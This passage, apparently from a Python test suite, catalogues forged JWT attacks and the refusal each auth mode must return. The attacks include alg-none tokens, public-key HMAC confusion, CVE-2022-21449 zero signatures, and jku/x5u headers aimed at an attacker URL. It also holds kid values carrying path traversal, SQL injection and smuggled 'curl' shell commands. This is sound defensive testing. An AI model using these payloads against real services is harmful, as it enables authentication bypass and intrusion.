"""The attack catalogue: each case, the request it sends, and the answer each auth mode must give.

References: RFC 8725 (JWT best current practice), RFC 7515/7519 (JWS, JWT), RFC 6750
(bearer tokens) and OWASP's JWT cheat sheet. Every token is built here from raw bytes,
signed with ``cryptography`` or ``hmac`` directly, so that no library can tidy an attack up.

Each case states one answer (status and ``WWW-Authenticate``) that holds in every mode,
plus the modes where it differs. The main difference is dev mode, which checks no
signature by design: a correctly shaped token with good claims passes there whatever
its signature. Those cases are counted apart, never as accepted forgeries.

Over-size tokens: uvicorn, as the baked projects install it (``uvicorn[standard]``,
so the httptools parser), sets no limit on header size, so 20 KB and 1 MB tokens reach
the service and are refused unread by its own cap (``AUTH_MAX_TOKEN_BYTES``): 401
``invalid_token``. Under ``--http h11`` uvicorn itself drops a 1 MB header with 400.
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Protocol

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.x509.oid import NameOID
from jose import jwk
from jose.backends.base import Key

# ---------------------------------------------------------------------------- answers


@dataclass(frozen=True)
class Answer:
    """What the service must reply: a status and its ``WWW-Authenticate`` header (None: absent)."""

    status: int
    challenge: str | None

    def __str__(self) -> str:
        return f"{self.status} {self.challenge or '(no challenge)'}"


OK = Answer(200, None)
NO_TOKEN = Answer(401, "Bearer")
INVALID = Answer(401, 'Bearer error="invalid_token"')
NO_SCOPE = Answer(403, 'Bearer error="insufficient_scope", scope="items:read"')
# The jwks service served with AUTH_DPOP=allowed: Bearer and DPoP (RFC 9449 §7.1).
DPOP_MODE = "jwks-dpop"
DPOP_ALGS = 'algs="ES256 RS256"'
DPOP_NO_TOKEN = Answer(401, f"Bearer, DPoP {DPOP_ALGS}")
BAD_PROOF = Answer(401, f'DPoP error="invalid_dpop_proof", {DPOP_ALGS}')
DPOP_INVALID = Answer(401, f'DPoP error="invalid_token", {DPOP_ALGS}')
# RFC 6750 §3.1: two Authorization headers repeat a parameter.
BAD_REQUEST = Answer(400, 'Bearer error="invalid_request"')
DPOP_BAD_REQUEST = Answer(400, f'Bearer error="invalid_request", DPoP error="invalid_request", {DPOP_ALGS}')

# ---------------------------------------------------------------------------- signing


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def compact_json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


class Signer(Protocol):
    @property
    def alg(self) -> str: ...

    @property
    def kid(self) -> str | None: ...

    def sign(self, data: bytes) -> bytes: ...


HASHES: dict[str, Callable[[], hashes.HashAlgorithm]] = {
    "256": hashes.SHA256,
    "384": hashes.SHA384,
    "512": hashes.SHA512,
}


@dataclass(frozen=True)
class Hmac:
    key: bytes
    alg: str = "HS256"
    kid: str | None = None

    def sign(self, data: bytes) -> bytes:
        return hmac.new(self.key, data, getattr(hashlib, f"sha{self.alg[2:]}")).digest()


@dataclass(frozen=True)
class Rsa:
    key: rsa.RSAPrivateKey
    alg: str = "RS256"
    kid: str | None = None
    max_salt: bool = False  # PSS with the longest salt the key allows, not RFC 7518's salt as long as the hash

    def sign(self, data: bytes) -> bytes:
        digest = HASHES[self.alg[2:]]()
        if self.alg.startswith("PS"):
            salt = padding.PSS.MAX_LENGTH if self.max_salt else padding.PSS.DIGEST_LENGTH
            return self.key.sign(data, padding.PSS(mgf=padding.MGF1(digest), salt_length=salt), digest)
        return self.key.sign(data, padding.PKCS1v15(), digest)


# The order of Ed25519's base point: an S at or above it is refused by RFC 8032 §5.1.7.
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


@dataclass(frozen=True)
class Eddsa:
    key: ed25519.Ed25519PrivateKey
    alg: str = "EdDSA"
    kid: str | None = None
    malleated: bool = False  # S + L: the same signature in a second, non-canonical spelling

    def sign(self, data: bytes) -> bytes:
        signature = self.key.sign(data)
        if not self.malleated:
            return signature
        s = int.from_bytes(signature[32:], "little") + ED25519_ORDER
        return signature[:32] + s.to_bytes(32, "little")


@dataclass(frozen=True)
class Ecdsa:
    key: ec.EllipticCurvePrivateKey
    alg: str = "ES256"
    kid: str | None = None
    der: bool = False  # the DER encoding of X.509, not JOSE's fixed-length r || s

    def sign(self, data: bytes) -> bytes:
        signature = self.key.sign(data, ec.ECDSA(HASHES[self.alg[2:]]()))
        if self.der:
            return signature
        r, s = decode_dss_signature(signature)
        size = (self.key.curve.key_size + 7) // 8
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")


@dataclass(frozen=True)
class Fixed:
    """A signature that is not computed at all."""

    signature: bytes
    alg: str
    kid: str | None = None

    def sign(self, data: bytes) -> bytes:
        return self.signature


# ---------------------------------------------------------------------------- key material

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def self_signed_certificate(key: rsa.RSAPrivateKey) -> bytes:
    """A DER certificate for the attacker's key, for an ``x5c`` header."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=30))
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.DER)


def b64_int(value: int) -> str:
    return b64(value.to_bytes((value.bit_length() + 7) // 8, "big"))


def public_jwk(private: rsa.RSAPrivateKey | ed25519.Ed25519PrivateKey) -> dict[str, str]:
    """The public JWK of an RSA or Ed25519 key, written out by hand: python-jose knows neither PS* nor EdDSA."""
    if isinstance(private, ed25519.Ed25519PrivateKey):
        return {"kty": "OKP", "crv": "Ed25519", "x": b64(private.public_key().public_bytes_raw())}
    numbers = private.public_key().public_numbers()
    return {"kty": "RSA", "n": b64_int(numbers.n), "e": b64_int(numbers.e)}


def jose_key(private: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey, alg: str) -> Key:
    pem = private.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return jwk.construct(pem, alg)


# Keys the provider publishes before its signing keys, all under one RSA key: the JWKS has over a hundred.
DECOYS = 100


def new_rsa(bits: int = 2048) -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=bits)


@dataclass(frozen=True, repr=False)
class Keys:
    """Every key of one test session: the identity provider's, the hs256 secret, the attacker's."""

    provider_rsa: rsa.RSAPrivateKey  # kid rsa-1
    provider_rsa2: rsa.RSAPrivateKey  # provider, kid rsa-2: a second RS256 key makes a kid-less RS256 token ambiguous
    provider_ec: ec.EllipticCurvePrivateKey  # kid ec-1
    provider_pss: rsa.RSAPrivateKey  # kid ps-1, published for PS256
    provider_ed: ed25519.Ed25519PrivateKey  # kid ed-1, published for EdDSA
    attacker_rsa: rsa.RSAPrivateKey
    attacker_ec: ec.EllipticCurvePrivateKey
    holder_ec: ec.EllipticCurvePrivateKey  # a DPoP client's key, to which bound tokens are bound
    attacker_ed: ed25519.Ed25519PrivateKey
    secret: str  # AUTH_SECRET of the hs256 service
    # Published before the signing keys (``jwks_extras``): decoys, then keys no token may be verified with.
    provider_decoy: rsa.RSAPrivateKey = field(default_factory=new_rsa)  # kids decoy-0 to decoy-99
    provider_enc: rsa.RSAPrivateKey = field(default_factory=new_rsa)  # kid enc-1, "use": "enc"
    provider_weak: rsa.RSAPrivateKey = field(default_factory=lambda: new_rsa(1024))  # kid weak-1
    provider_oct: bytes = field(default_factory=lambda: secrets.token_bytes(32))  # kid oct-1, an HMAC key

    @classmethod
    def generate(cls, secret: str) -> Keys:
        def new_rsa() -> rsa.RSAPrivateKey:
            return rsa.generate_private_key(public_exponent=65537, key_size=2048)

        return cls(
            new_rsa(),
            new_rsa(),
            ec.generate_private_key(ec.SECP256R1()),
            new_rsa(),
            ed25519.Ed25519PrivateKey.generate(),
            new_rsa(),
            ec.generate_private_key(ec.SECP256R1()),
            ec.generate_private_key(ec.SECP256R1()),
            ed25519.Ed25519PrivateKey.generate(),
            secret,
        )

    def provider_keys(self) -> dict[str, Key]:
        """The provider's signing keys, as ``tests/provider.py`` serves them."""
        return {
            "rsa-1": jose_key(self.provider_rsa, "RS256"),
            "rsa-2": jose_key(self.provider_rsa2, "RS256"),
            "ec-1": jose_key(self.provider_ec, "ES256"),
        }

    def provider_jwks(self) -> list[dict[str, object]]:
        """The provider's PS256 and EdDSA keys, and keys whose ``alg`` lies about their material.

        Each liar carries the material of one of the keys above under a ``kid`` of its own, so
        a token signed with that material and naming that ``kid`` must find no key.
        """
        ec_jwk = jose_key(self.provider_ec, "ES256").public_key().to_dict()
        rsa_jwk, ed_jwk = public_jwk(self.provider_rsa), public_jwk(self.provider_ed)
        return [
            {**public_jwk(self.provider_pss), "alg": "PS256", "kid": "ps-1", "use": "sig"},
            {**ed_jwk, "alg": "EdDSA", "kid": "ed-1", "use": "sig"},
            {**ec_jwk, "alg": "PS256", "kid": "ps-on-ec", "use": "sig"},
            {**rsa_jwk, "alg": "EdDSA", "kid": "eddsa-on-rsa", "use": "sig"},
            {**ed_jwk, "alg": "RS256", "kid": "rs-on-okp", "use": "sig"},
        ]

    def jwks_extras(self) -> list[dict[str, object]]:
        """Published before every signing key, so that those come after the hundredth: decoys, then unusable keys."""
        decoy = public_jwk(self.provider_decoy)
        decoys: list[dict[str, object]] = [{**decoy, "kid": f"decoy-{n}", "use": "sig"} for n in range(DECOYS)]
        return [
            *decoys,
            {**public_jwk(self.provider_enc), "kid": "enc-1", "use": "enc", "alg": "RSA-OAEP"},
            {**public_jwk(self.provider_weak), "kid": "weak-1", "use": "sig", "alg": "RS256"},
            {"kty": "oct", "kid": "oct-1", "alg": "HS256", "k": b64(self.provider_oct)},
        ]

    def public_forms(self, kid: str) -> dict[str, bytes]:
        """The provider's public key ``kid`` in every form an attacker might HMAC with."""
        private = self.provider_rsa if kid == "rsa-1" else self.provider_ec
        public = private.public_key()
        spki = serialization.PublicFormat.SubjectPublicKeyInfo
        served = {**self.provider_keys()[kid].public_key().to_dict(), "kid": kid, "use": "sig"}
        forms = {
            "PEM": public.public_bytes(serialization.Encoding.PEM, spki),
            "DER": public.public_bytes(serialization.Encoding.DER, spki),
            "JWK text as served": json.dumps(served).encode(),
            "compact JWK text": compact_json(served),
            "OpenSSH": public.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH),
        }
        if isinstance(public, rsa.RSAPublicKey):
            forms["PKCS#1 PEM"] = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
        return forms


# ---------------------------------------------------------------------------- requests


class Drop:
    """Marks a header parameter or claim to leave out."""


DROP = Drop()


@dataclass(frozen=True)
class Probe:
    """One HTTP request: a path (with query) and raw header lines."""

    path: str
    headers: tuple[tuple[str, bytes], ...] = ()


@dataclass(frozen=True)
class Kit:
    """What cases build their requests from, for one served mode."""

    mode: str
    keys: Keys
    issuer: str
    audience: str
    attacker_url: str
    base_url: str = ""  # where the service listens, for DPoP proofs' htu
    subject: str = "alice"  # the sub of good tokens: in login bakes, the id of a user in the database
    leeway: int = 30
    max_lifetime: int = 86400

    @property
    def signer(self) -> Signer:
        """How this mode's real issuer signs."""
        if self.mode.startswith("jwks"):
            return Rsa(self.keys.provider_rsa, kid="rsa-1")
        if self.mode == "hs256":
            return Hmac(self.keys.secret.encode())
        return Hmac(b"any key at all: dev mode checks none")

    def claims(self, **changes: object) -> dict[str, object]:
        now = int(time.time())
        claims: dict[str, object] = {"sub": self.subject, "iss": self.issuer, "aud": self.audience, "iat": now}
        claims["exp"] = now + 300
        claims.update(changes)
        return {name: value for name, value in claims.items() if value is not DROP}

    def token(
        self,
        signer: Signer | None = None,
        *,
        header: Mapping[str, object] | None = None,
        raw_header: bytes | None = None,
        raw_claims: bytes | None = None,
        **changes: object,
    ) -> str:
        """A compact JWS: this mode's good token unless told otherwise."""
        signer = signer or self.signer
        if raw_header is None:
            fields: dict[str, object] = {"alg": signer.alg, "typ": "JWT"}
            if signer.kid is not None:
                fields["kid"] = signer.kid
            fields.update(header or {})
            raw_header = compact_json({name: value for name, value in fields.items() if value is not DROP})
        if raw_claims is None:
            raw_claims = compact_json(self.claims(**changes))
        signing_input = f"{b64(raw_header)}.{b64(raw_claims)}"
        return f"{signing_input}.{b64(signer.sign(signing_input.encode('ascii')))}"


def bearer(token: str, path: str = "/me") -> Probe:
    return Probe(path, (("Authorization", f"Bearer {token}".encode()),))


def authorization(*values: bytes, path: str = "/me") -> Probe:
    return Probe(path, tuple(("Authorization", value) for value in values))


# ---------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    build: Callable[[Kit], Probe]
    expect: Answer = INVALID
    modes: Mapping[str, Answer] = field(default_factory=dict)
    unsigned: bool = False  # badly signed but well formed: dev mode, which checks no signature, lets it in
    baits_attacker: bool = False  # the token points at the attacker's server, which must hear nothing

    @property
    def id(self) -> str:
        return f"{self.family}: {self.name}"

    def expected(self, mode: str) -> Answer:
        if self.unsigned and mode == "dev":
            return OK
        if mode == DPOP_MODE and mode not in self.modes:
            # The jwks answer, except that a request without a usable token is offered both schemes.
            answer = self.modes.get("jwks", self.expect)
            return DPOP_NO_TOKEN if answer == NO_TOKEN else answer
        return self.modes.get(mode, self.expect)


def case(
    family: str,
    name: str,
    make: Callable[[Kit], str | Probe],
    expect: Answer = INVALID,
    *,
    path: str = "/me",
    unsigned: bool = False,
    baits_attacker: bool = False,
    **modes: Answer,
) -> Case:
    """A case; ``make`` returns a token (sent as ``Bearer`` to ``path``) or a whole probe."""

    def build(kit: Kit) -> Probe:
        made = make(kit)
        return made if isinstance(made, Probe) else bearer(made, path)

    return Case(family, name, build, expect, modes, unsigned, baits_attacker)


def segments(token: str) -> list[str]:
    return token.split(".")


def with_signature(token: str, signature: str) -> str:
    header, claims, _ = segments(token)
    return f"{header}.{claims}.{signature}"


def spare_bits_flipped(segment: str) -> str:
    """The same bytes spelled differently: set an unused low bit of the last base64url character."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(segment) % 4 in (2, 3), "this segment has no spare bits"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) | 1]


def spliced(document: bytes, extra: bytes) -> bytes:
    """A JSON object with ``extra`` members appended verbatim: duplicates, NaN and the like."""
    return document[:-1] + b"," + extra + b"}"


def nested(depth: int) -> object:
    value: object = "bottom"
    for _ in range(depth):
        value = {"a": value}
    return value


def with_header(**fields: object) -> Callable[[Kit], str]:
    """A token signed as usual whose header gets ``fields``."""
    return lambda kit: kit.token(header=fields)


def with_claims(**changes: object) -> Callable[[Kit], str]:
    """A token signed as usual whose claims get ``changes``."""
    return lambda kit: kit.token(raw_claims=compact_json(kit.claims(**changes)))


def alg_none(spelling: str, *, keep_signature: bool) -> Callable[[Kit], str]:
    def make(kit: Kit) -> str:
        if keep_signature:
            return with_signature(kit.token(header={"alg": spelling}), segments(kit.token())[2])
        return kit.token(Fixed(b"", spelling))

    return make


def with_secret(alg: str) -> Callable[[Kit], str]:
    return lambda kit: kit.token(Hmac(kit.keys.secret.encode(), alg))


def by_provider_rsa(alg: str) -> Callable[[Kit], str]:
    return lambda kit: kit.token(Rsa(kit.keys.provider_rsa, alg, "rsa-1"))


def hmac_with_public_key(kid: str, form: str) -> Callable[[Kit], str]:
    """Key confusion: HS256 keyed with the bytes of the provider's public key."""
    return lambda kit: kit.token(Hmac(kit.keys.public_forms(kid)[form], kid=kid))


def algorithm_cases() -> list[Case]:
    family = "algorithm"
    cases = []
    for spelling in ("none", "None", "NONE", "nOnE"):
        cases.append(case(family, f"alg {spelling} with empty signature", alg_none(spelling, keep_signature=False)))
        cases.append(case(family, f"alg {spelling} keeping a real signature", alg_none(spelling, keep_signature=True)))
    cases += [
        case(family, "signature stripped (two segments)", lambda kit: ".".join(segments(kit.token())[:2])),
        case(family, "signature empty", lambda kit: with_signature(kit.token(), "")),
        case(
            family,
            "ES384 (not allowed in jwks mode by default)",
            lambda kit: kit.token(Fixed(bytes(96), "ES384", "ec-1")),
            unsigned=True,
        ),
        case(
            family,
            "ES256 by the provider's key (allowed in jwks mode only)",
            lambda kit: kit.token(Ecdsa(kit.keys.provider_ec, kid="ec-1")),
            jwks=OK,
            dev=OK,
        ),
        case(family, "Ed25519 (RFC 9864's name, known to no mode)", lambda kit: kit.token(Fixed(bytes(64), "Ed25519"))),
        case(family, "Ed448 (known to no mode)", lambda kit: kit.token(Fixed(bytes(114), "Ed448"))),
        case(family, "RSA-OAEP (an encryption algorithm)", lambda kit: kit.token(Fixed(bytes(32), "RSA-OAEP"))),
        case(family, "alg missing", lambda kit: kit.token(header={"alg": DROP})),
        case(family, "alg empty", lambda kit: kit.token(header={"alg": ""})),
        case(family, "alg with trailing space", lambda kit: kit.token(header={"alg": f"{kit.signer.alg} "})),
    ]
    cases += [
        case(family, f"{alg} with the hs256 secret", with_secret(alg), unsigned=True) for alg in ("HS384", "HS512")
    ]
    cases += [
        case(family, f"{alg} by the provider's RSA key", by_provider_rsa(alg), unsigned=True)
        for alg in ("RS384", "RS512", "PS256")
    ]
    for label, value in (
        ("number", 256),
        ("null", None),
        ("list", ["HS256", "RS256"]),
        ("object", {"HS256": True}),
        ("bool", True),
    ):
        cases.append(case(family, f"alg as {label}", with_header(alg=value)))
    for kid in ("rsa-1", "ec-1"):
        for form in ("PEM", "PKCS#1 PEM", "DER", "JWK text as served", "compact JWK text", "OpenSSH"):
            if form == "PKCS#1 PEM" and kid == "ec-1":
                continue
            cases.append(
                case(
                    family,
                    f"key confusion: HS256 keyed with {kid}'s public {form}",
                    hmac_with_public_key(kid, form),
                    unsigned=True,
                )
            )
    return cases


def tampered(kit: Kit) -> str:
    header, _, signature = segments(kit.token(scope=""))
    forged_claims = segments(kit.token(sub="admin", scope="items:read"))[1]
    return f"{header}.{forged_claims}.{signature}"


def signature_cases() -> list[Case]:
    family = "keys and signatures"

    def forged(name: str, make: Callable[[Kit], str], path: str = "/me") -> Case:
        return case(family, name, make, path=path, unsigned=True)

    def provider_es256(kit: Kit) -> Signer:
        return Ecdsa(kit.keys.provider_ec, kid="ec-1")

    def provider_rs256(kit: Kit) -> Signer:
        return Rsa(kit.keys.provider_rsa, kid="rsa-1")

    def resigned(signer: Callable[[Kit], Signer], change: Callable[[bytes], bytes]) -> Callable[[Kit], str]:
        """A token with a real signature, then the signature bytes changed."""

        def make(kit: Kit) -> str:
            token = kit.token(signer(kit))
            signature = base64.urlsafe_b64decode(segments(token)[2] + "==")
            return with_signature(token, b64(change(signature)))

        return make

    def replaced(signature: bytes) -> Callable[[bytes], bytes]:
        return lambda _: signature

    return [
        forged("HS256 with another secret", lambda kit: kit.token(Hmac(b"another secret, 32 bytes or more: yes"))),
        forged("RS256 by the attacker, provider's kid", lambda kit: kit.token(Rsa(kit.keys.attacker_rsa, kid="rsa-1"))),
        forged("ES256 by the attacker, provider's kid", lambda kit: kit.token(Ecdsa(kit.keys.attacker_ec, kid="ec-1"))),
        forged("tampered payload (sub=admin, scope added)", tampered, path="/items"),
        forged(
            "signature of another token", lambda kit: with_signature(kit.token(sub="admin"), segments(kit.token())[2])
        ),
        forged("ES256 all-zero signature (CVE-2022-21449)", resigned(provider_es256, replaced(bytes(64)))),
        forged("ES256 r = s = curve order", resigned(provider_es256, replaced(P256_ORDER.to_bytes(32, "big") * 2))),
        forged("ES256 all-zero signature in DER", resigned(provider_es256, replaced(encode_dss_signature(0, 0)))),
        forged("ES256 signature in DER form", lambda kit: kit.token(Ecdsa(kit.keys.provider_ec, kid="ec-1", der=True))),
        forged("ES256 signature one byte short", resigned(provider_es256, lambda signature: signature[:-1])),
        forged("ES256 signature one byte long", resigned(provider_es256, lambda signature: signature + b"\0")),
        forged("ES256 signature repeated", resigned(provider_es256, lambda signature: signature * 2)),
        forged("RS256 signature one byte short", resigned(provider_rs256, lambda signature: signature[:-1])),
        forged(
            "RS256 signature with a leading zero byte", resigned(provider_rs256, lambda signature: b"\0" + signature)
        ),
    ]


def header_cases() -> list[Case]:
    family = "header injection"
    attacker_secret = b"attacker-chosen-secret"

    def attacker_rsa(kit: Kit, kid: str = "attacker") -> Rsa:
        return Rsa(kit.keys.attacker_rsa, kid=kid)

    def attacker_jwk(kit: Kit) -> dict[str, Any]:
        return {**jose_key(kit.keys.attacker_rsa, "RS256").public_key().to_dict(), "kid": "attacker"}

    def bait(name: str, make: Callable[[Kit], str]) -> Case:
        """A forged token that points at the attacker's server, which must hear nothing."""
        return case(family, name, make, baits_attacker=True, unsigned=True)

    def x5c(kit: Kit) -> list[str]:
        return [base64.b64encode(self_signed_certificate(kit.keys.attacker_rsa)).decode()]

    return [
        case(
            family,
            "unknown kid on a correctly signed token",
            lambda kit: kit.token(header={"kid": "unknown-kid"}),
            hs256=OK,
            dev=OK,
        ),
        case(
            family,
            "kid missing while two RS256 keys could match",
            lambda kit: kit.token(header={"kid": DROP}),
            hs256=OK,
            dev=OK,
        ),
        case(
            family,
            "kid missing, the only ES256 key",
            lambda kit: kit.token(Ecdsa(kit.keys.provider_ec)),
            jwks=OK,
            dev=OK,
        ),
        case(family, "kid of 300 characters", lambda kit: kit.token(header={"kid": "k" * 300})),
        case(family, "kid as number", lambda kit: kit.token(header={"kid": 1})),
        case(family, "kid as list", lambda kit: kit.token(header={"kid": ["rsa-1"]})),
        case(family, "kid as object", lambda kit: kit.token(header={"kid": {"kid": "rsa-1"}})),
        case(
            family,
            "kid path traversal to /dev/null, HS256 with an empty key",
            lambda kit: kit.token(Hmac(b"", kid="../../../../../../dev/null")),
            unsigned=True,
        ),
        case(
            family,
            "kid path traversal to /proc/self/environ",
            lambda kit: kit.token(Hmac(b"", kid="/proc/self/environ")),
            unsigned=True,
        ),
        case(
            family,
            "kid SQL injection choosing the key",
            lambda kit: kit.token(Hmac(b"attacker-key", kid="x' UNION SELECT 'attacker-key' -- ")),
            unsigned=True,
        ),
        case(family, "kid SQL tautology", lambda kit: kit.token(attacker_rsa(kit, "rsa-1' OR '1'='1")), unsigned=True),
        case(family, "kid with a NUL byte", lambda kit: kit.token(attacker_rsa(kit, "rsa-1\u0000")), unsigned=True),
        bait(
            "kid shell injection", lambda kit: kit.token(Hmac(attacker_secret, kid=f"k; curl {kit.attacker_url}/kid"))
        ),
        bait(
            "kid command substitution",
            lambda kit: kit.token(Hmac(attacker_secret, kid=f"$(curl {kit.attacker_url}/kid)")),
        ),
        bait(
            "jku at the attacker's JWKS, attacker's kid",
            lambda kit: kit.token(attacker_rsa(kit), header={"jku": f"{kit.attacker_url}/jwks"}),
        ),
        bait(
            "jku at the attacker's JWKS, provider's kid",
            lambda kit: kit.token(attacker_rsa(kit, "rsa-1"), header={"jku": f"{kit.attacker_url}/jwks"}),
        ),
        bait(
            "jku with HS256 and the attacker's secret",
            lambda kit: kit.token(Hmac(attacker_secret), header={"jku": f"{kit.attacker_url}/jwks"}),
        ),
        bait(
            "x5u at the attacker's certificate",
            lambda kit: kit.token(attacker_rsa(kit), header={"x5u": f"{kit.attacker_url}/cert.pem"}),
        ),
        case(
            family,
            "jwk: the attacker's own key embedded",
            lambda kit: kit.token(attacker_rsa(kit), header={"jwk": attacker_jwk(kit)}),
            unsigned=True,
        ),
        case(
            family,
            "x5c: the attacker's self-signed certificate",
            lambda kit: kit.token(attacker_rsa(kit), header={"x5c": x5c(kit)}),
            unsigned=True,
        ),
        case(
            family,
            "iss at the attacker's discovery document",
            lambda kit: kit.token(iss=kit.attacker_url),
            baits_attacker=True,
        ),
        case(
            family, "unknown crit extension", lambda kit: kit.token(header={"crit": ["x-unknown"], "x-unknown": True})
        ),
        case(family, "empty crit list", lambda kit: kit.token(header={"crit": []})),
        case(family, "zip DEF", lambda kit: kit.token(header={"zip": "DEF"})),
        case(family, "enc in a JWS", lambda kit: kit.token(header={"enc": "A256GCM"})),
    ]


def key_set_cases() -> list[Case]:
    """The provider's JWKS holds over a hundred keys, its signing keys last, and keys no token may use."""
    family = "key set"

    def refused(name: str, signer: Callable[[Kit], Signer]) -> Case:
        """A token signed by ``signer``, which no usable key of the provider verifies: only dev mode lets it in."""
        return case(family, name, lambda kit: kit.token(signer(kit)), unsigned=True)

    return [
        case(
            family,
            "RS256 by the provider under its last decoy kid (past the hundredth key)",
            lambda kit: kit.token(Rsa(kit.keys.provider_decoy, kid=f"decoy-{DECOYS - 1}")),
            jwks=OK,
            dev=OK,
        ),
        refused("RS256 by the attacker under a decoy kid", lambda kit: Rsa(kit.keys.attacker_rsa, kid="decoy-80")),
        refused("RS256 by a published encryption key (use enc)", lambda kit: Rsa(kit.keys.provider_enc, kid="enc-1")),
        refused("RS256 by a published 1024-bit key", lambda kit: Rsa(kit.keys.provider_weak, kid="weak-1")),
        refused("HS256 keyed with a published oct key", lambda kit: Hmac(kit.keys.provider_oct, kid="oct-1")),
    ]


def structure_cases() -> list[Case]:
    family = "structure"

    def general_json(kit: Kit) -> str:
        header, claims, signature = segments(kit.token())
        return compact_json({"payload": claims, "signatures": [{"protected": header, "signature": signature}]}).decode()

    def flattened_json(kit: Kit) -> str:
        header, claims, signature = segments(kit.token())
        return compact_json({"payload": claims, "protected": header, "signature": signature}).decode()

    def standard_alphabet(kit: Kit) -> str:
        # "????~~~~" is spelled with "_" and "-" in base64url whatever its offset: "/" and "+" in plain base64.
        token = kit.token(note="????????~~~~~~~~")
        header, claims, signature = segments(token)
        assert "-" in claims
        assert "_" in claims
        return f"{header}.{claims.replace('-', '+').replace('_', '/')}.{signature}"

    def impossible_length(kit: Kit) -> str:
        token = kit.token()
        return token + "A" * ((1 - len(segments(token)[2])) % 4)

    def jwe(kit: Kit) -> str:
        header = b64(compact_json({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "rsa-1"}))
        return ".".join([header, b64(bytes(256)), b64(bytes(12)), b64(b"ciphertext"), b64(bytes(16))])

    def raw(header: bytes | None = None, claims: bytes | None = None) -> Callable[[Kit], str]:
        return lambda kit: kit.token(raw_header=header, raw_claims=claims)

    def header_json(kit: Kit, extra: bytes) -> bytes:
        """The mode's usual header, with ``extra`` members appended verbatim."""
        fields = {"alg": kit.signer.alg, "typ": "JWT", "kid": kit.signer.kid}
        return spliced(compact_json({name: value for name, value in fields.items() if value is not None}), extra)

    def claims_json(kit: Kit, extra: bytes, **changes: object) -> bytes:
        """The mode's usual claims, with ``extra`` members appended verbatim."""
        return spliced(compact_json(kit.claims(**changes)), extra)

    return [
        case(family, "JWE: five segments", jwe),
        case(family, "good token plus two segments", lambda kit: f"{kit.token()}.{b64(b'x')}.{b64(b'y')}"),
        case(family, "JWS JSON serialisation (general)", general_json),
        case(family, "JWS JSON serialisation (flattened)", flattened_json),
        case(family, "one segment", lambda kit: segments(kit.token())[0]),
        case(family, "four segments", lambda kit: f"{kit.token()}.{b64(b'x')}"),
        case(family, "empty segments only", lambda kit: ".."),
        case(family, "empty claims segment", lambda kit: f"{segments(kit.token())[0]}..{segments(kit.token())[2]}"),
        case(family, "leading dot", lambda kit: f".{kit.token()}"),
        case(family, "trailing dot", lambda kit: f"{kit.token()}."),
        case(family, "padding on the signature", lambda kit: f"{kit.token()}="),
        case(family, "padding on the claims", lambda kit: "{}.{}==.{}".format(*segments(kit.token()))),
        case(family, "plain base64 alphabet (+ and /)", standard_alphabet),
        case(
            family,
            "same signature bytes, other spelling (spare bits set)",
            lambda kit: with_signature(kit.token(), spare_bits_flipped(segments(kit.token())[2])),
        ),
        case(family, "segment of impossible length", impossible_length),
        case(family, "stray character in the claims", lambda kit: kit.token().replace(".", ".*", 1)),
        case(family, "percent-encoded dots", lambda kit: kit.token().replace(".", "%2E")),
        case(family, "header not JSON", raw(header=b"not json")),
        case(family, "claims not JSON", raw(claims=b"sub=alice")),
        case(family, "header a JSON list", raw(header=b'["HS256"]')),
        case(family, "header a JSON string", raw(header=b'"HS256"')),
        case(family, "header JSON null", raw(header=b"null")),
        case(family, "claims a JSON list", raw(claims=b'[{"sub":"alice"}]')),
        case(family, "claims a JSON number", raw(claims=b"1")),
        case(family, "header not UTF-8", lambda kit: kit.token(raw_header=header_json(kit, b'"x":"\xff"'))),
        case(family, "claims not UTF-8", lambda kit: kit.token(raw_claims=claims_json(kit, b'"x":"\xc3\x28"'))),
        case(family, "claims in UTF-16", lambda kit: kit.token(raw_claims=json.dumps(kit.claims()).encode("utf-16"))),
        case(
            family,
            "claims behind a UTF-8 BOM",
            lambda kit: kit.token(raw_claims=b"\xef\xbb\xbf" + compact_json(kit.claims())),
        ),
        case(
            family,
            "header nested 2000 deep",
            lambda kit: kit.token(raw_header=header_json(kit, b'"x":' + b"[" * 2000 + b"]" * 2000)),
        ),
        case(
            family,
            "claims nested 2000 deep",
            lambda kit: kit.token(raw_claims=claims_json(kit, b'"x":' + b"[" * 2000 + b"]" * 2000)),
        ),
        case(family, "claims nested 300 deep (parseable, too deep to answer)", lambda kit: kit.token(x=nested(300))),
        case(family, "claims nested 40 deep", lambda kit: kit.token(x=nested(40))),
        case(
            family,
            "claims nested 3 deep (realistic)",
            lambda kit: kit.token(realm_access={"roles": ["a"]}, x=nested(1)),
            OK,
        ),
        case(
            family, "duplicate alg in the header", lambda kit: kit.token(raw_header=header_json(kit, b'"alg":"none"'))
        ),
        case(
